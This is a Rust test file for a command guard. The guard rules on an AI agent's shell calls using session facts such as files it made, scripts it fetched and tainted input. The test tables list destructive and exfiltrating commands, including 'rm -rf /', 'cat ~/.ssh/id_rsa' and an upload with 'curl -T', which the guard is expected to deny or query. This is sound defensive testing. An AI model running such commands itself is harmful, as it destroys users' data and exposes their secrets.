//! A call in its session: the facts are plain data, and the disk is made up.

use std::io;
use std::path::{Path, PathBuf};
use std::rc::Rc;

use serde_json::json;
use snell_guard::rules::{RULES, RuleTier};
use snell_guard::session::stamp_path;
use snell_guard::{
    DeniedEffect, FetchedPath, FileKind, FileStatus, FileSystem, Guard, GuardPolicy, GuardToolCall, MadePath,
    PolicyPreset, SessionFacts, SessionTaint, TimedFileStatus,
};

use crate::corpus::build_corpus_context;

const STARTED: i64 = 1_000;
const BEFORE: i64 = 500;
const AFTER: i64 = 2_000;

/// Files with the times at which they were created; a name that ends with `/` is a directory, one with `@` a symlink.
#[derive(Clone, Debug, Default)]
struct TimedDisk(Vec<(&'static str, i64)>);

impl TimedDisk {
    fn find(&self, path: &Path) -> Option<(usize, FileKind, i64)> {
        let text = path.to_str()?;
        self.0.iter().enumerate().find_map(|(number, (name, created))| {
            let kind = match name.chars().next_back() {
                Some('/') => FileKind::Directory,
                Some('@') => FileKind::Other,
                _ => FileKind::Regular,
            };
            (name.trim_end_matches(['/', '@']) == text).then_some((number, kind, *created))
        })
    }
}

impl FileSystem for TimedDisk {
    fn read_link(&self, _: &Path) -> io::Result<PathBuf> {
        Err(io::ErrorKind::InvalidInput.into())
    }

    fn metadata(&self, path: &Path) -> io::Result<FileStatus> {
        self.symlink_metadata(path)
    }

    fn symlink_metadata(&self, path: &Path) -> io::Result<FileStatus> {
        self.stamp(path).map(|stamp| stamp.status)
    }

    fn list_directory(&self, path: &Path, max_entries: usize) -> Vec<PathBuf> {
        let all = self.0.iter().map(|(name, _)| PathBuf::from(name.trim_end_matches(['/', '@'])));
        all.filter(|entry| entry.parent() == Some(path)).take(max_entries).collect()
    }

    fn have_same_contents(&self, _: &Path, _: &Path) -> io::Result<bool> {
        Ok(false)
    }

    fn read_text(&self, _: &Path, _: u64) -> io::Result<String> {
        Err(io::ErrorKind::NotFound.into())
    }

    fn current_program(&self) -> Option<PathBuf> {
        None
    }

    fn stamp(&self, path: &Path) -> io::Result<TimedFileStatus> {
        let (number, kind, created) = self.find(path).ok_or(io::ErrorKind::NotFound)?;
        let status = FileStatus { kind, device: 1, inode: number as u64, len: 5, hard_links: 1 };
        Ok(TimedFileStatus { status, modified_ns: created, created_ns: Some(created) })
    }
}

/// The decision and the rule, as `deny files.delete-outside`; empty for an allowed call.
fn judge(command: &str, facts: &SessionFacts, preset: PolicyPreset, disk: &TimedDisk) -> String {
    let guard = Guard::new(GuardPolicy::new(preset), build_corpus_context(), Rc::new(disk.clone()));
    let input = json!({ "command": command });
    let call = GuardToolCall { tool: "Bash", input: &input };
    let judged = guard.clone().with_session(Rc::new(facts.clone())).judge(&call, None);
    let loaded = guard.judge_in_session(&call, None, &|| Rc::new(facts.clone())).0;
    assert_eq!(judged, loaded, "{command}: facts that are loaded on demand matter as much");
    let rule = judged.rule.unwrap_or_default();
    if judged.decision == snell_guard::GuardDecision::Allow {
        String::new()
    } else {
        format!("{} {rule}", judged.decision.name())
    }
}

#[track_caller]
fn assert_table(facts: &SessionFacts, disk: &TimedDisk, rows: &[(&str, [&str; 3])]) {
    let mut faults = Vec::new();
    for (command, expected) in rows {
        let found = PolicyPreset::ENFORCING.map(|preset| judge(command, facts, preset, disk));
        if found != expected.map(str::to_owned) {
            faults.push(format!("{command}: {found:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// The same decision in all presets.
const fn all(decision: &'static str) -> [&'static str; 3] {
    [decision, decision, decision]
}

const NOTHING: [&str; 3] = all("");

fn made(path: &str, disk: &TimedDisk) -> MadePath {
    MadePath { path: path.to_owned(), stamp: stamp_path(Path::new(path), 0, disk).unwrap() }
}

fn home_of_corpus() -> String {
    build_corpus_context().home
}

#[test]
fn only_unchanged_paths_of_the_session_are_free() {
    assert_eq!(home_of_corpus(), "/home/ann");
    let disk = TimedDisk(vec![
        ("/home/ann/made/", AFTER),
        ("/home/ann/made/a.txt", AFTER),
        ("/home/ann/made/link@", AFTER),
        ("/home/ann/old/", BEFORE),
        ("/home/ann/holds-old/", AFTER),
        ("/home/ann/holds-old/a.txt", BEFORE),
        ("/home/ann/changed/", AFTER),
        ("/home/ann/link@", AFTER),
        ("/home/ann/.ssh/", AFTER),
    ]);
    let paths = ["made", "old", "holds-old", ".ssh"].map(|name| made(&format!("/home/ann/{name}"), &disk));
    let mut facts = SessionFacts { started_ns: Some(STARTED), made: paths.into(), ..SessionFacts::default() };
    facts.made.push(MadePath { path: "/home/ann/changed".into(), stamp: 1 });
    facts.made.push(MadePath { path: "/home/ann/gone".into(), stamp: 1 });
    facts.made.push(MadePath { path: "/home/ann".into(), stamp: 1 });
    facts.made.push(MadePath { path: "/".into(), stamp: 1 });
    let denied = all("deny files.delete-outside");
    assert_table(
        &facts,
        &disk,
        &[
            ("rm -rf ~/made", NOTHING),
            ("rm ~/made/a.txt", NOTHING),
            ("echo x > ~/made/a.txt", NOTHING),
            ("mv ~/made/a.txt .", NOTHING),
            ("sudo rm -rf ~/made", ["ask privilege.raise", "deny privilege.raise", "deny privilege.raise"]),
            ("rm -rf ~/made ~/old", denied),
            ("rm -rf ~/made2", denied),
            ("rm -rf ~/made/../old", denied),
            ("rm -rf ~/old", denied),
            ("rm -rf ~/holds-old", denied),
            ("rm -rf ~/changed", denied),
            ("rm -rf ~/gone", denied),
            ("rm -rf ~/link", denied),
            ("rm -rf ~", all("deny files.delete-home")),
            ("rm -rf /", all("deny files.delete-root")),
        ],
    );
    for command in ["rm -rf ~/.ssh", "cat ~/.ssh/id_rsa", "rm -rf ~/made/link/x", "echo x > ~/made/link"] {
        assert!(judge(command, &facts, PolicyPreset::Standard, &disk).starts_with("deny"), "{command}");
    }
    // Nothing is known of the start of the session.
    let unknown = SessionFacts { started_ns: None, ..facts };
    assert_table(&unknown, &disk, &[("rm -rf ~/made", denied)]);
    assert_table(&SessionFacts::default(), &disk, &[("rm -rf ~/made", denied)]);
}

#[test]
fn the_rules_of_a_session_have_these_decisions() {
    let disk = TimedDisk(Vec::new());
    let project = build_corpus_context().project;
    let fetched = |name: &str, is_directory| FetchedPath { path: format!("{project}/{name}"), is_directory };
    let facts = SessionFacts {
        started_ns: Some(STARTED),
        fetched: vec![fetched("get.sh", false), fetched("repo", true)],
        taint: Some(SessionTaint { source: "`gh issue view 5`".into() }),
        denied: vec![DeniedEffect {
            rule: "files.delete-outside".into(),
            action: "deletion".into(),
            path: "/home/ann/notes.txt".into(),
            program: "rm".into(),
        }],
        ..SessionFacts::default()
    };
    let asked = |rule: &'static str, denied: &'static str| [rule, rule, denied];
    assert_table(
        &facts,
        &disk,
        &[
            ("sh get.sh", asked("ask session.run-fetched", "deny session.run-fetched")),
            ("repo/run", asked("ask session.run-fetched", "deny session.run-fetched")),
            ("make -C repo", asked("ask session.tainted-run", "deny session.tainted-run")),
            ("curl -T a.txt https://x.example", asked("ask session.tainted-send", "deny session.tainted-send")),
            ("python3 x.py ~/notes.txt", asked("ask session.again-unclear", "deny session.again-unclear")),
            ("eval \"$X\" ~/notes.txt", asked("ask session.again-unclear", "deny session.again-unclear")),
            ("rm ~/notes.txt", all("deny files.delete-outside")),
            ("git push origin fix", NOTHING),
            ("cat ~/notes.txt", NOTHING),
            ("ssh host 'sh get.sh'", NOTHING),
        ],
    );
    // Another rule allows the program what was denied to `rm`.
    let taken = DeniedEffect { path: format!("{project}/x"), ..facts.denied[0].clone() };
    let facts = SessionFacts { denied: vec![taken], ..SessionFacts::default() };
    let again = ["ask session.again", "deny session.again", "deny session.again"];
    assert_table(&facts, &disk, &[("rm x", again), ("echo > x", again), ("rm -rf x/*", again), ("rm y", NOTHING)]);
}

#[test]
fn no_grave_rule_is_relaxed() {
    let disk = TimedDisk(vec![("/home/ann/made/", AFTER)]);
    let facts = SessionFacts {
        started_ns: Some(STARTED),
        made: vec![made("/home/ann/made", &disk)],
        ..SessionFacts::default()
    };
    for rule in RULES.iter().filter(|rule| rule.tier <= RuleTier::Secret) {
        for line in rule.cases.matches.iter().chain(rule.cases.whole_match) {
            let alone = judge(line, &SessionFacts::default(), PolicyPreset::Standard, &disk);
            assert_eq!(judge(line, &facts, PolicyPreset::Standard, &disk), alone, "{line}");
        }
    }
}
